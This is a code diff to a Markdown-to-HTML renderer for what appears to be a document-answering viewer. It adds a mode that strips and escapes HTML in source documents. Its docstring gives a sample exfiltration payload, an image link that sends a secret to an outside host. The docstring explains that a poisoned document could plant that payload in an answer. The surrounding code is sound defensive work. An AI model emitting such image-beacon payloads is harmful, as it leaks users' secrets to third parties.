@@ -7,6 +7,10 @@ in an answer shows as text, and links with ``javascript:`` are refused by markdo
 Nor is it trusted to fetch anything: an image becomes a link that says where it points, so
 a poisoned document can't make the window request ``![x](http://elsewhere/?d=<secret>)``
 (the page's CSP refuses foreign images too; this way the reader also sees the attempt).
+
+A document's own Markdown (the viewer) is read with its HTML as a page would show it: the
+words of its tags kept, the tags, comments and scripts themselves not shown, and nothing
+of them run or fetched. Shown escaped, a README's ``<a href>`` and ``<div>`` read as code.
 """
 
 from __future__ import annotations
@@ -146,9 +150,41 @@ def _inside_link(tokens: Any, idx: int) -> bool:
     return depth > 0
 
 
-@lru_cache(maxsize=1)
-def _parser() -> MarkdownIt:
-    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "breaks": True})
+_HTML_HIDDEN = re.compile(
+    r"<!--.*?(?:-->|\Z)|<(script|style|template)\b.*?(?:</\1\s*>|\Z)", re.DOTALL | re.IGNORECASE
+)
+"""What a page never shows: comments, and scripts and styles with what they hold."""
+_HTML_TAG = re.compile(r"</?[A-Za-z][^<>]*>|<![A-Za-z][^<>]*>|<\?.*?\?>", re.DOTALL)
+_LINE_BREAK = re.compile(r"<br\s*/?>", re.IGNORECASE)
+
+
+def _markers_in(markup: str) -> str:
+    """The wrap markers inside markup that is dropped: a wrap opens and closes all the same."""
+    return "".join(ANY_MARKER.findall(markup))
+
+
+def _html_inline(tokens: Any, idx: int, options: Any, env: Any) -> str:
+    content = tokens[idx].content
+    for _ in pieces(_markers_in(content), env):  # only moves the wrap it is in
+        pass
+    return "<br />\n" if _LINE_BREAK.fullmatch(content.strip()) else ""
+
+
+def _html_block(tokens: Any, idx: int, options: Any, env: Any) -> str:
+    content = _HTML_HIDDEN.sub(lambda m: _markers_in(m.group(0)), tokens[idx].content)
+    content = _HTML_TAG.sub(lambda m: _markers_in(m.group(0)), content)
+    text = html.unescape(content)
+    if not ANY_MARKER.sub("", text).strip():
+        for _ in pieces(text, env):
+            pass
+        return ""
+    shown = [(html.escape(piece, quote=False), inside) for piece, inside in pieces(text, env)]
+    body = "".join(_wrapped(piece, inside, env) for piece, inside in shown)
+    return f"<p>{body.strip()}</p>\n"
+
+
+def _base_parser(allow_html: bool) -> MarkdownIt:
+    md = MarkdownIt("commonmark", {"html": allow_html, "linkify": False, "breaks": True})
     md.enable(["table", "strikethrough"])
     rules = md.renderer.rules  # type: ignore[attr-defined]
     rules["fence"] = _fence
@@ -162,14 +198,34 @@ def _parser() -> MarkdownIt:
     return md
 
 
+@lru_cache(maxsize=1)
+def _parser() -> MarkdownIt:
+    return _base_parser(allow_html=False)
+
+
+@lru_cache(maxsize=1)
+def _document_parser() -> MarkdownIt:
+    md = _base_parser(allow_html=True)
+    rules = md.renderer.rules  # type: ignore[attr-defined]
+    rules["html_inline"] = _html_inline
+    rules["html_block"] = _html_block
+    return md
+
+
 def render(
-    text: str, sources: list[dict[str, Any]] | None = None, wraps: Sequence[Wrap] = ()
+    text: str,
+    sources: list[dict[str, Any]] | None = None,
+    wraps: Sequence[Wrap] = (),
+    *,
+    document: bool = False,
 ) -> str:
     """The answer's Markdown as safe HTML; ``[n]`` links name their source's file and page,
-    and each of ``wraps`` (ranges of ``text``) is wrapped in its tags."""
+    and each of ``wraps`` (ranges of ``text``) is wrapped in its tags. A ``document``'s
+    HTML shows as its words (see above); an answer's shows as written."""
     places = {int(s["n"]): (str(s.get("file", "")), s.get("page")) for s in sources or []}
     marked = with_markers(text, wraps) if wraps else text
-    rendered = str(_parser().render(marked, {"places": places, "wraps": wraps}))
+    parser = _document_parser() if document else _parser()
+    rendered = str(parser.render(marked, {"places": places, "wraps": wraps}))
     return ANY_MARKER.sub("", rendered) if wraps else rendered  # any left in a link's address
 
 
